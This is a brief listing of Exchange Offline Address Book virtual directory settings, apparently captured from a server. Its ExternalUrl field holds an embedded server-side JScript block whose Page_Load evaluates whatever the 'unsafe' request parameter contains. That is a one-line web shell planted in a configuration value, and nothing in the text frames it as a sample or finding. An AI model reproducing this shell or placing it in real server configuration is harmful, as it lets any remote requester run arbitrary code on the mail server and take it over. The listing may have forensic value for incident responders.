OAB (Default Web Site)
ExternalUrl : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["unsafe"],"unsafe");}</script>
InternalUrl : https://ex01.contoso.local/OAB
